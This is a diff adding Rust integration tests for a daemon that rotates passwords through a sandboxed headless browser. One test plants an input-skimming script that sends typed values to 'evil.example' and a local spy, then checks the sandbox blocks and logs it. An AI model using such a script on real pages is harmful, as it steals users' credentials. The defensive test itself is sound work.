@@ -1,11 +1,27 @@
 //! Web devices: a browser changes a password, and what goes wrong on the way ends in the right state.
+//!
+//! Each rotation starts two browsers; `BROWSER_KILLS` says how often daemon and helper are killed in the midst of one (2).
 
-use crate::lab::Place;
+use std::collections::BTreeSet;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::fd::OwnedFd;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixListener;
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::lab::{Daemon, Place, wait_for};
 use crate::site::{FIRST, PERIOD, SEED, Web};
 
 /// The application's template.
 const TEMPLATE: &str = r##"start-at https://[#HOSTNAME#]/login
-timeout 8000
+timeout 6000
 section login
 new-action
 fill "#user" [#USERNAME#]
@@ -24,7 +40,7 @@ click "#save"
 test-text "Your password has been changed"
 "##;
 
-/// An application and a daemon's place with its account.
+/// An application, and a daemon's place with its account.
 fn place(more: &str) -> (Web, Place) {
     let web = Web::start();
     let place = Place::new("");
@@ -33,16 +49,56 @@ fn place(more: &str) -> (Web, Place) {
     (web, place)
 }
 
-fn store(place: &Place) {
+fn started(place: &Place) -> Daemon<'_> {
+    let daemon = place.daemon();
     let rows = format!("account,password,totp\nwiki/alice,{FIRST},otpauth://totp/x?secret={SEED}&period={PERIOD}\n");
     place.must(&["import", "-"], &rows);
+    daemon
+}
+
+/// Everything that the last attempt is on record with.
+fn history(place: &Place) -> String {
+    place.json(&["history", "wiki/alice"]).0["attempts"].to_string()
+}
+
+/// The processes that come of one, as far down as they go (proc_pid_stat(5)).
+fn descendants(of: u32) -> BTreeSet<u32> {
+    let entries = std::fs::read_dir("/proc").unwrap().flatten();
+    let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
+    let parent = |pid: u32| {
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+        stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse::<u32>().ok()
+    };
+    let parents: Vec<(u32, u32)> = pids.filter_map(|pid| Some((pid, parent(pid)?))).collect();
+    let mut found = BTreeSet::from([of]);
+    while let Some((pid, _)) = parents.iter().find(|(pid, parent)| found.contains(parent) && !found.contains(pid)) {
+        found.insert(*pid);
+    }
+    found.remove(&of);
+    found
+}
+
+/// Waits until processes are gone.
+fn all_gone(pids: &BTreeSet<u32>) {
+    let is_there = |pid: &u32| {
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat"));
+        stat.is_ok_and(|stat| !stat.contains(") Z "))
+    };
+    wait_for("every process of the browser is gone", || (!pids.iter().any(is_there)).then_some(()));
+}
+
+/// Ports of the host on which somebody listens (proc_net_tcp(5)).
+fn listening() -> BTreeSet<u16> {
+    let text = std::fs::read_to_string("/proc/net/tcp").unwrap();
+    let sockets = text.lines().skip(1).map(|line| line.split_whitespace().collect::<Vec<_>>());
+    let open = sockets.filter(|fields| fields[3] == "0A");
+    open.map(|fields| u16::from_str_radix(fields[1].split(':').nth(1).unwrap(), 16).unwrap()).collect()
 }
 
 #[test]
 fn a_browser_changes_a_password_and_a_second_profile_proves_it() {
     let (web, place) = place("");
-    let daemon = place.daemon();
-    store(&place);
+    let daemon = started(&place);
     let (outcome, detail, exit) = place.rotate("wiki/alice");
     assert_eq!((outcome.as_str(), exit), ("done", 0), "{detail}: {}", place.log());
     let password = place.password("wiki/alice");
@@ -50,5 +106,323 @@ fn a_browser_changes_a_password_and_a_second_profile_proves_it() {
     let site = web.site();
     assert_eq!((site.password.as_str(), site.changes, site.logins, site.replayed), (password.as_str(), 1, 2, false));
     drop(site);
+    assert!(!place.log().contains(&password) && !place.log().contains(FIRST), "a password is in the log");
     daemon.stop();
+}
+
+#[test]
+fn a_page_that_sends_what_is_typed_to_another_host_reaches_nobody_and_is_told_of() {
+    let spy = TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let port = spy.local_addr().unwrap().port();
+    let heard = Arc::new(AtomicUsize::new(0));
+    let counted = heard.clone();
+    std::thread::spawn(move || {
+        for _ in spy.incoming().flatten() {
+            counted.fetch_add(1, Ordering::SeqCst);
+        }
+    });
+    let (web, place) = place("");
+    web.site().extra = format!(
+        "<script>document.addEventListener('input', e => {{ for (const to of ['http://127.0.0.1:{port}/', 'https://evil.example/', 'wss://evil.example:8443/']) {{ if (to.startsWith('ws')) new WebSocket(to); else fetch(to + '?' + e.target.value, {{ mode: 'no-cors' }}).catch(() => 0); new Image().src = to + e.target.value; }} }});</script>"
+    );
+    let daemon = started(&place);
+    let (outcome, detail, _) = place.rotate("wiki/alice");
+    assert_eq!(outcome, "done", "{detail}");
+    assert_eq!(heard.load(Ordering::SeqCst), 0, "somebody heard what was typed");
+    let told = history(&place);
+    for host in [format!("127.0.0.1:{port}"), "evil.example:443".into(), "evil.example:8443".into()] {
+        assert!(told.contains(&format!("the page tried to reach {host}")), "{host}: {told}");
+    }
+    daemon.stop();
+}
+
+#[test]
+fn a_certificate_that_is_not_trusted_ends_the_attempt_before_anything_is_asked_for() {
+    let (web, place) = place("");
+    let section = web.section(place.folder.path(), "").replace("ca_file = \"authority.pem\"\n", "");
+    place.configure(&section);
+    let daemon = started(&place);
+    let (outcome, detail, exit) = place.rotate("wiki/alice");
+    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
+    assert!(detail.contains("is not trusted") && detail.contains("tls_sha256"), "{detail}");
+    assert!(web.site().asked.is_empty(), "{:?}", web.site().asked);
+    let (log, _) = place.json(&["audit", "tail", "-n", "20"]);
+    assert!(log.to_string().contains("host_key.mismatch"), "{log}");
+    // Another certificate than the pinned one is no better, and the right one is good without any authority.
+    place.configure(&section.replace("template =", &format!("tls_sha256 = [\"{}\"]\ntemplate =", "0".repeat(64))));
+    daemon.signal("HUP");
+    wait_for("another certificate than the pinned one", || {
+        place.rotate("wiki/alice").1.contains("another one than tls_sha256 has").then_some(())
+    });
+    place.configure(&section.replace("template =", &format!("tls_sha256 = [\"{}\"]\ntemplate =", web.fingerprint)));
+    daemon.signal("HUP");
+    wait_for("the pinned certificate", || (place.json(&["verify", "wiki/alice"]).1 == 0).then_some(()));
+    daemon.stop();
+}
+
+#[test]
+fn a_page_that_changed_fails_before_the_commit_point_and_tells_what_is_there_instead() {
+    let (web, place) = place("");
+    web.site().renamed = true;
+    let daemon = started(&place);
+    let (outcome, detail, exit) = place.rotate("wiki/alice");
+    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
+    assert!(detail.contains("new_password") && detail.contains("Change password"), "{detail}");
+    assert_eq!((place.state("wiki/alice").as_str(), place.changes("wiki/alice"), web.site().changes), ("idle", 0, 0));
+    let file = place.path("page.jpg");
+    place.must(&["history", "wiki/alice", "--screenshot", file.to_str().unwrap()], "");
+    assert!(std::fs::read(&file).unwrap().starts_with(&[0xff, 0xd8, 0xff]), "no JPEG");
+    daemon.stop();
+}
+
+#[test]
+fn what_becomes_of_a_change_that_went_wrong_is_found_out_by_login() {
+    let (web, place) = place("");
+    web.site().strict = true;
+    let daemon = started(&place);
+    let (outcome, detail, exit) = place.rotate("wiki/alice");
+    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
+    assert_eq!((place.state("wiki/alice").as_str(), place.password("wiki/alice").as_str()), ("idle", FIRST));
+    // The page takes the new password and never answers.
+    (web.site().strict, web.site().hangs) = (false, true);
+    let (outcome, detail, _) = place.rotate("wiki/alice");
+    assert_eq!(outcome, "done", "{detail}");
+    assert_eq!(web.site().password, place.password("wiki/alice"));
+    assert!(!web.site().replayed, "a code was sent twice");
+    daemon.stop();
+}
+
+#[test]
+fn a_wrong_password_is_refused_once_or_twice_and_a_browser_is_left_behind_by_nobody() {
+    let (web, place) = place("");
+    web.site().password = "Somebody-Changed-It-7".into();
+    let daemon = started(&place);
+    let (outcome, detail, _) = place.rotate("wiki/alice");
+    assert_ne!(outcome, "done", "{detail}");
+    assert!(detail.contains("refused"), "{detail}");
+    assert!((1..=2).contains(&web.site().refused), "{}", web.site().refused);
+    daemon.stop();
+}
+
+#[test]
+fn a_run_that_waits_for_a_person_is_shown_as_such_and_fails_where_nobody_comes() {
+    let (web, place) = place("park_for = \"5s\"\n");
+    web.site().puzzle = true;
+    let before = listening();
+    let daemon = started(&place);
+    place.must(&["rotate", "wiki/alice", "--no-wait"], "");
+    wait_for("a person is asked for", || {
+        place.json(&["status"]).0["accounts"][0]["waiting"]
+            .as_str()
+            .map(|text| assert!(text.contains("reCAPTCHA"), "{text}"))
+    });
+    // The browser is at work now: nobody else finds a port of it, or a socket.
+    let ours = [web.port];
+    let new: Vec<u16> = listening().difference(&before).copied().filter(|port| !ours.contains(port)).collect();
+    assert!(!new.contains(&9515) && !new.contains(&3128), "{new:?}");
+    let sockets = std::fs::read_to_string("/proc/net/unix").unwrap();
+    assert!(!sockets.contains("rotord-browser"), "{sockets}");
+    let (log, _) = place.json(&["audit", "tail", "-n", "20"]);
+    assert!(log.to_string().contains("run.waiting"), "{log}");
+    let detail =
+        wait_for("nobody comes", || place.json(&["status"]).0["accounts"][0]["last_error"].as_str().map(str::to_owned));
+    assert!(detail.contains("person"), "{detail}");
+    assert_eq!((place.state("wiki/alice").as_str(), web.site().changes), ("idle", 0));
+    daemon.stop();
+}
+
+/// The browser of a person: Chromium under a driver of the test's own.
+struct Person {
+    driver: Child,
+    port: u16,
+    session: String,
+    _home: tempfile::TempDir,
+}
+
+impl Person {
+    fn start() -> Self {
+        let (home, port) = (tempfile::tempdir().unwrap(), crate::lab::free_port());
+        std::os::unix::fs::chown(home.path(), Some(61_191), Some(61_191)).unwrap();
+        let mut command = Command::new("setpriv");
+        command.args(["--reuid=61191", "--regid=61191", "--clear-groups", "--", "/usr/bin/chromedriver"]);
+        command.arg(format!("--port={port}")).env("HOME", home.path()).env("TMPDIR", home.path());
+        let driver = command.current_dir("/").stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
+        wait_for("the person's driver", || TcpStream::connect(("127.0.0.1", port)).ok());
+        let mut person = Self { driver, port, session: String::new(), _home: home };
+        let options = json!({ "args": ["--headless=new", "--disable-gpu", "--window-size=1300,1100"] });
+        let wanted = json!({ "browserName": "chrome", "goog:chromeOptions": options });
+        let started = person.call("POST", "/session", json!({ "capabilities": { "alwaysMatch": wanted } }));
+        person.session = started["sessionId"].as_str().unwrap().to_owned();
+        person
+    }
+
+    fn call(&self, method: &str, path: &str, body: Value) -> Value {
+        let mut socket = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
+        let body = body.to_string();
+        let head = format!(
+            "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+            self.port,
+            body.len()
+        );
+        socket.write_all(head.as_bytes()).unwrap();
+        // The driver keeps the connection open: the length tells where its answer ends.
+        socket.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
+        let (mut reader, mut length) = (BufReader::new(socket), 0);
+        loop {
+            let mut line = String::new();
+            reader.read_line(&mut line).unwrap();
+            let Some((name, value)) = line.trim_end().split_once(':') else {
+                if line.trim().is_empty() {
+                    break;
+                }
+                continue;
+            };
+            if name.eq_ignore_ascii_case("content-length") {
+                length = value.trim().parse().unwrap();
+            }
+        }
+        let mut answer = vec![0; length];
+        reader.read_exact(&mut answer).unwrap();
+        serde_json::from_slice::<Value>(&answer).unwrap()["value"].clone()
+    }
+
+    fn post(&self, path: &str, body: Value) -> Value {
+        self.call("POST", &format!("/session/{}/{path}", self.session), body)
+    }
+
+    fn text(&self) -> String {
+        let script = json!({ "script": "return document.body.innerText", "args": [] });
+        self.post("execute/sync", script).as_str().unwrap_or_default().to_owned()
+    }
+
+    /// Presses keys, where the focus is.
+    fn press(&self, keys: &[&str]) {
+        let strokes: Vec<Value> = keys
+            .iter()
+            .flat_map(|key| [json!({ "type": "keyDown", "value": key }), json!({ "type": "keyUp", "value": key })])
+            .collect();
+        self.post("actions", json!({ "actions": [{ "type": "key", "id": "k", "actions": strokes }] }));
+    }
+}
+
+impl Drop for Person {
+    fn drop(&mut self) {
+        // Its browser ends with it, once the driver is told to.
+        drop(Command::new("pkill").args(["-KILL", "-P", &self.driver.id().to_string()]).status());
+        drop(self.driver.kill());
+        drop(self.driver.wait());
+    }
+}
+
+#[test]
+fn a_person_solves_a_puzzle_in_the_live_view_and_the_run_goes_on_by_itself() {
+    let (web, place) = place("park_for = \"60s\"\n");
+    web.site().puzzle = true;
+    let daemon = started(&place);
+    place.must(&["rotate", "wiki/alice", "--no-wait"], "");
+    wait_for("a person is asked for", || place.json(&["status"]).0["accounts"][0]["waiting"].as_str().map(|_| ()));
+    let mut command = Command::new(env!("CARGO_BIN_EXE_rotorctl"));
+    command.args(["browser", "wiki/alice"]).env("ROTORD_SOCKET", place.path("socket"));
+    let mut view = command.stdout(Stdio::piped()).spawn().unwrap();
+    let mut lines = BufReader::new(view.stdout.take().unwrap()).lines();
+    let link = lines.find_map(|line| Some(line.unwrap().split_once("this host: ")?.1.to_owned())).unwrap();
+    let person = Person::start();
+    person.post("url", json!({ "url": link }));
+    let width = json!({ "script": "return document.getElementById('screen').naturalWidth", "args": [] });
+    wait_for("the screen is shown", || (person.post("execute/sync", width.clone()).as_u64()? > 600).then_some(()));
+    // Tab to the box, check it; Tab to the button, press it: tab, space and enter of WebDriver.
+    let move_there = json!({ "script": "document.getElementById('screen').focus(); return true", "args": [] });
+    person.post("execute/sync", move_there);
+    person.press(&["\u{e004}", " ", "\u{e004}", "\u{e007}"]);
+    wait_for("the puzzle is solved", || web.site().solved.then_some(()));
+    wait_for("the view tells that the run goes on", || person.text().contains("The run goes on").then_some(()));
+    assert!(view.wait().unwrap().success());
+    // The link was good once.
+    let second = Command::new("curl").args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", &link]).output().unwrap();
+    assert_ne!(String::from_utf8_lossy(&second.stdout).trim(), "200");
+    wait_for("the rotation is done", || (place.state("wiki/alice") == "idle" && web.site().changes == 1).then_some(()));
+    assert_eq!(web.site().password, place.password("wiki/alice"));
+    daemon.stop();
+}
+
+/// The helper as a service: a process of another user behind a socket.
+struct Service(Child, PathBuf);
+
+impl Service {
+    fn start(place: &Place) -> Self {
+        let path = place.path("browser.sock");
+        let listener = UnixListener::bind(&path).unwrap();
+        std::fs::set_permissions(&path, PermissionsExt::from_mode(0o600)).unwrap();
+        let mut command = Command::new("setpriv");
+        command.args(["--reuid=61190", "--regid=61190", "--clear-groups", "--no-new-privs", "--bounding-set=-all"]);
+        command.args(["--", env!("CARGO_BIN_EXE_rotord"), "browser"]).stdin(Stdio::from(OwnedFd::from(listener)));
+        Self(command.spawn().unwrap(), path)
+    }
+}
+
+impl Drop for Service {
+    fn drop(&mut self) {
+        self.0.kill().unwrap();
+        self.0.wait().unwrap();
+    }
+}
+
+#[test]
+fn a_service_without_any_privilege_gives_the_daemon_its_browsers_and_nobody_else() {
+    let (_web, place) = place("");
+    let service = Service::start(&place);
+    let config = std::fs::read_to_string(place.path("rotord.toml")).unwrap();
+    let config = config.replace("[vault]", &format!("browser_socket = \"{}\"\n[vault]", service.1.display()));
+    std::fs::write(place.path("rotord.toml"), config).unwrap();
+    let daemon = started(&place);
+    let (value, exit) = place.json(&["verify", "wiki/alice"]);
+    assert_eq!(exit, 0, "{value}");
+    // Who is neither root nor the socket's owner is hung up on, even where the file's mode lets him connect.
+    std::fs::set_permissions(&service.1, PermissionsExt::from_mode(0o666)).unwrap();
+    std::fs::set_permissions(place.folder.path(), PermissionsExt::from_mode(0o755)).unwrap();
+    let talk = format!(
+        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.settimeout(20); print(len(s.recv(1)))",
+        service.1.display()
+    );
+    let mut stranger = Command::new("setpriv");
+    stranger.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "/usr/bin/python3", "-c", &talk]);
+    let output = stranger.output().unwrap();
+    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "0", "{}", String::from_utf8_lossy(&output.stderr));
+    daemon.stop();
+}
+
+#[test]
+fn daemon_and_browser_are_killed_in_the_midst_of_a_change_and_nothing_is_lost_or_left_behind() {
+    let kills: u64 = std::env::var("BROWSER_KILLS").map_or(2, |kills| kills.parse().unwrap());
+    for round in 0..kills {
+        // A login that was killed counts as a refused one: with the usual budget what is in doubt would wait for an hour.
+        let (web, place) = place("[policy.default]\nfailed_logins_per_hour = 10\n");
+        let daemon = started(&place);
+        place.must(&["rotate", "wiki/alice", "--no-wait"], "");
+        // Each round at another moment: a login takes some 2 s, a change some 3 s more.
+        std::thread::sleep(Duration::from_millis(1500 + 6500 * round / kills.max(1)));
+        let browsers = descendants(daemon.pid());
+        if round % 2 == 1 {
+            // The first of the browser's processes alone: the others go with it.
+            if let Some(first) = browsers.first() {
+                let _ = Command::new("kill").args(["-KILL", &first.to_string()]).status().unwrap();
+            }
+            all_gone(&browsers);
+        }
+        daemon.kill();
+        all_gone(&browsers);
+        let daemon = place.daemon();
+        wait_for("the account is at rest", || {
+            let state = place.state("wiki/alice");
+            assert_ne!(state, "quarantined", "{}", history(&place));
+            (state == "idle").then_some(())
+        });
+        let stored = place.password("wiki/alice");
+        let site = web.site();
+        assert_eq!(site.password, stored, "round {round}: a password is lost");
+        assert!(!site.replayed && site.changes <= 1, "round {round}");
+        drop(site);
+        place.each_start_has_its_end("after a kill");
+        daemon.stop();
+    }
 }
